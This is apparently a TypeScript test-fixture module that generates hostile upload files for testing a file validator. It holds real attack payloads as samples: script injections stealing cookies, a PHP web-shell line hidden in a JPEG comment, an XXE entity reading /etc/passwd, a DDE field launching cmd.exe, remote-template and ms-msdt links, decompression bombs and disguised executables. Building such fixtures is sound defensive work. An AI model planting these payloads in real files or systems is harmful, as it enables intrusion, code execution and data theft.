import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { aJpeg, aPdf, aPng, pngChunk } from '../builders/files.ts';
import { aDocx, aZip, field, relation } from './docx.ts';
import { turnedHeic, plainHeic } from './heic.ts';
import { hostilePdfs } from './hostile-pdf.ts';
import { DOCX, EICAR, sample, type Sample } from './sample.ts';

const html = Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>');
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
const SCRIPT = '<script>alert(document.cookie)</script>';
const photo = () => sharp({ create: { width: 400, height: 300, channels: 3, background: '#7a5' } });
/** A PNG that unpacks to `side` × `side` grey points. */
const flatPng = (side: number): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const row = Math.ceil(side / 8) + 1;
  return Buffer.concat([
    Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(row * side))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
};
const withChunk = (type: string, data: string): Buffer => {
  const png = aPng();
  return Buffer.concat([png.subarray(0, 33), pngChunk(type, Buffer.from(data, 'latin1')), png.subarray(33)]);
};
const segment = (marker: number, data: string): Buffer => {
  const body = Buffer.from(data, 'latin1');
  return Buffer.concat([Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255]), body]);
};

async function hostilePictures(heavy: boolean): Promise<Sample[]> {
  const located = await photo()
    .withExif({
      IFD0: { Artist: 'Yasmine', ImageDescription: SCRIPT },
      IFD3: { GPSLatitude: '48/1 51/1 0/1', GPSLongitude: '2/1 21/1 0/1' },
    })
    .jpeg()
    .toBuffer();
  const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
  const heicOfSize = (side: number): Buffer => {
    const bytes = Buffer.from(plainHeic);
    const at = bytes.indexOf('ispe');
    bytes.writeUInt32BE(side, at + 8);
    bytes.writeUInt32BE(side, at + 12);
    return bytes;
  };
  return [
    sample('JPEG: the place where it was taken, and a script in its description', 'photo.jpg', located),
    sample(
      'JPEG: a script in XMP',
      'photo.jpg',
      aJpeg({ before: segment(0xe1, `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${SCRIPT}</x:xmpmeta>`) }),
    ),
    sample('JPEG: PHP in a comment', 'photo.jpg', aJpeg({ before: segment(0xfe, '<?php system($_GET[0]); ?>') })),
    sample('JPEG: a page of the web behind it', 'photo.jpg', aJpeg({ after: html })),
    sample('JPEG: an archive behind it', 'photo.jpg', aJpeg({ after: await aZip({ 'a.exe': 'MZ' }) })),
    sample('JPEG: a PDF in its first segment', 'photo.jpg', aJpeg({ before: segment(0xfe, '%PDF-1.7\n1 0 obj') })),
    sample('JPEG: 65,000 points a side', 'photo.jpg', aJpeg({ width: 65_000, height: 65_000 })),
    sample('JPEG: far larger than its content', 'photo.jpg', aJpeg({ width: 12_000, height: 12_000 })),
    sample('JPEG: cut', 'photo.jpg', located.subarray(0, 600)),
    sample('PNG: 60,000 points a side, in a few bytes', 'scan.png', aPng({ width: 60_000, height: 60_000, honest: false })),
    ...(heavy
      ? [
          sample('PNG: 30,000 points a side, honestly', 'scan.png', flatPng(30_000)),
          sample('PNG: 12,000 points a side, under the limit', 'scan.png', flatPng(12_000)),
        ]
      : []),
    sample('PNG: a script as text', 'scan.png', withChunk('tEXt', `Comment\0${SCRIPT}`)),
    sample('PNG: a script as packed text', 'scan.png', withChunk('zTXt', `Comment\0\0${deflateSync(SCRIPT).toString('latin1')}`)),
    sample(
      'PNG: EXIF with a place',
      'scan.png',
      await photo()
        .withExif({ IFD3: { GPSLatitude: '48/1 51/1 0/1' } })
        .png()
        .toBuffer(),
    ),
    sample('PNG: an archive behind it', 'scan.png', Buffer.concat([aPng(), await aZip({ 'a.exe': 'MZ' })])),
    sample('PNG: a page of the web behind it', 'scan.png', Buffer.concat([aPng(), html])),
    sample('PNG: a wrong checksum', 'scan.png', Buffer.from(aPng()).fill(7, 45, 46)),
    sample('PNG: cut', 'scan.png', aPng().subarray(0, -14)),
    sample('PNG: no width', 'scan.png', aPng({ width: 0, honest: false })),
    sample('HEIC: the place where it was taken', 'IMG_0042.heic', turnedHeic),
    sample('HEIC: 60,000 points a side', 'IMG_0043.heic', heicOfSize(60_000)),
    sample('HEIC: cut', 'IMG_0044.heic', plainHeic.subarray(0, 900)),
    sample('HEIC: only its first box', 'IMG_0045.heic', Buffer.concat([plainHeic.subarray(0, 28), Buffer.alloc(4_000, 7)])),
    sample('SVG named .svg', 'dessin.svg', svg, 'image/svg+xml'),
    sample('SVG named .png', 'dessin.png', svg),
    sample('SVG named .jpg', 'dessin.jpg', svg),
    sample('HTML named .jpg', 'photo.jpg', html),
    sample('HTML named .png', 'photo.png', html),
    sample('GIF', 'a.gif', gif, 'image/gif'),
    sample('GIF named .png', 'a.png', gif),
    sample('WebP', 'a.webp', await photo().webp().toBuffer(), 'image/webp'),
    sample('TIFF named .jpg', 'a.jpg', await photo().tiff().toBuffer()),
    sample('AVIF named .heic', 'a.heic', await photo().avif().toBuffer()),
    sample('PDF named .jpg', 'a.jpg', aPdf()),
  ];
}

async function hostileDocuments(heavy: boolean): Promise<Sample[]> {
  const word = async (what: string, parts: Parameters<typeof aDocx>[0], name = 'lettre.docx'): Promise<Sample> =>
    sample(`DOCX: ${what}`, name, await aDocx(parts));
  const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  const cfb = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_048)]);
  const whole = await aDocx();
  const twice = await aZip({ '[Content_Types].xml': '<a/>', 'word/document.xml': '<a/>', 'word/Document.xml': '<b/>' });
  const words = await Promise.all([
    word('macros', { more: { 'word/vbaProject.bin': 'x' } }),
    word('macros under another case', { more: { 'word/VBAPROJECT.BIN': 'x' } }),
    word('macros by its type', { main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    word('macros by its type, named .docm', { main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }, 'lettre.docm'),
    word('an embedded object', { more: { 'word/embeddings/oleObject1.bin': 'x' } }),
    word('an embedded workbook', { more: { 'word/embeddings/classeur.xlsx': 'x' } }),
    word('a control', { more: { 'word/activeX/activeX1.xml': '<a/>' } }),
    word('a template elsewhere', { relations: relation('attachedTemplate', 'https://piste.invalid/m.dotm') }),
    word('a template elsewhere, written in codes', {
      relations: relation('attachedTempl&#97;te', 'https://piste.invalid/m.dotm', ' TargetMode="Ext&#101;rnal"'),
    }),
    word('a picture elsewhere', { relations: relation('image', 'https://piste.invalid/p.png') }),
    word('a picture on a share', { relations: relation('image', 'file://///serveur/p.png') }),
    word('an object elsewhere', { relations: relation('oleObject', 'mhtml:https://piste.invalid/x.html!x') }),
    word('a link that runs a program', { relations: relation('hyperlink', 'ms-msdt:/id') }),
    word('another document inside', { relations: relation('aFChunk', 'part.html', ''), more: { 'word/part.html': html } }),
    word('relations in UTF-16', {
      rawRelations: utf16(`<Relationships>${relation('image', 'https://piste.invalid/p.png')}</Relationships>`),
    }),
    word('an entity', {
      rawRelations: Buffer.from('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships>&x;</Relationships>'),
    }),
    word('a DDE field', { runs: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') }),
    word('a DDE field in pieces', { runs: field('DD') + field('EAU') + field('TO cmd.exe') }),
    word('a field that fetches a picture', { runs: field('INCLUDEPICTURE "https://piste.invalid/p.png"') }),
    ...(heavy
      ? [
          word('300 MB of nothing', { more: { 'word/media/image1.bmp': Buffer.alloc(300 * 1024 * 1024) } }),
          word('a text of 60 MB', { text: 'a'.repeat(60 * 1024 * 1024) }),
          word('three thousand parts', { more: Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`word/p${i}.xml`, '<a/>'])) }),
        ]
      : []),
    word('the antivirus test file inside', { more: { 'word/media/image1.png': EICAR }, compress: false }),
  ]);
  return [
    ...words,
    sample('DOCX: a program behind it', 'lettre.docx', Buffer.concat([whole, Buffer.from('MZ')])),
    sample('DOCX: a program before it', 'lettre.docx', Buffer.concat([Buffer.from('MZ'), whole])),
    sample('DOCX: cut', 'lettre.docx', whole.subarray(0, -40)),
    sample('DOCX: the same part twice', 'lettre.docx', twice),
    sample('DOCX: nothing of Word in it', 'lettre.docx', await aZip({ 'a.txt': 'x' })),
    sample('an archive', 'papiers.zip', await aZip({ 'a.exe': 'MZ' }), 'application/zip'),
    sample('an archive named .pdf', 'papiers.pdf', await aZip({ 'a.exe': 'MZ' })),
    sample('an old or locked Word document', 'lettre.docx', cfb),
    sample('an old Word document', 'lettre.doc', cfb, 'application/msword'),
  ];
}

const others = (): Sample[] => [
  sample('nothing', 'vide.pdf', Buffer.alloc(0)),
  sample('one byte too many', 'gros.pdf', Buffer.concat([aPdf(), Buffer.alloc(20 * 1024 * 1024)])),
  sample('a Windows program named .pdf', 'bail.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 3)])),
  sample('a Linux program named .jpg', 'photo.jpg', Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(400, 3)])),
  sample('a script named .pdf', 'bail.pdf', Buffer.from('alert(1)')),
  sample('HTML named .pdf', 'bail.pdf', html),
  sample('the antivirus test file', 'eicar.com', Buffer.from(EICAR), 'application/octet-stream'),
  sample('the antivirus test file named .pdf', 'bail.pdf', Buffer.from(EICAR)),
  sample('the antivirus test file beside a page', 'bail.pdf', aPdf({ objects: [`<< >>\n%${EICAR}`] })),
  sample('a PDF declared as a picture', 'bail.pdf', aPdf(), 'image/png'),
  sample('a PDF named .docx', 'bail.docx', aPdf(), DOCX),
];

/** Files made to harm whoever stores, opens or reads them; the largest bombs, slow to make, only when asked for. */
export const hostileFiles = async ({ heavy = true } = {}): Promise<Sample[]> => [
  ...hostilePdfs(heavy),
  ...(await hostilePictures(heavy)),
  ...(await hostileDocuments(heavy)),
  ...others(),
];
